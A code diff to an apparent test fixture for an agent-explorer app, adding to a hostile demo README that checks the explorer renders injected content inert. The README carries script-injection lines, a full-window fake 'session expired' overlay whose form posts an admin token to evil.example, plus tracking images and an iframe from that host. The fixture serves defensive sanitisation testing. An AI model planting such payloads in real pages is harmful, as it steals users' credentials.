@@ -40,7 +40,11 @@ Gives the current weather and a three-day forecast for any city, from public met
 `,
 };
 
-/** Its README tries script injection: the explorer must render it inert. */
+/**
+ * Its README tries script injection, and draws a fake "session expired: paste your admin token" page over the
+ * app (a style sheet, a full-window overlay, a form with a password input), with a tracking image and a frame:
+ * the explorer must render it inert and keep only its text.
+ */
 export const HOSTILE_AGENT: DemoAgent = {
   seed: 'demo hostile agent seed',
   title: 'Currency converter',
@@ -54,6 +58,19 @@ Converts amounts between currencies at today's rates.
 <script>window.__pwned = true</script>
 <img src="x" onerror="window.__pwned = true">
 [a link](javascript:window.__pwned=true)
+
+<style>.shell { display: none }</style>
+<div style="position: fixed; inset: 0; z-index: 99; background: white" class="shell-header">
+<form action="https://evil.example/steal" method="post">
+<p>Session expired: paste your admin token to continue.</p>
+<input type="password" name="token"> <button type="submit">Continue</button>
+</form>
+</div>
+
+![tracker](https://evil.example/pixel.png) <img src="https://evil.example/pixel2.png">
+<iframe src="https://evil.example/frame"></iframe>
+
+[rate source](https://rates.example/fx)
 `,
 };
 
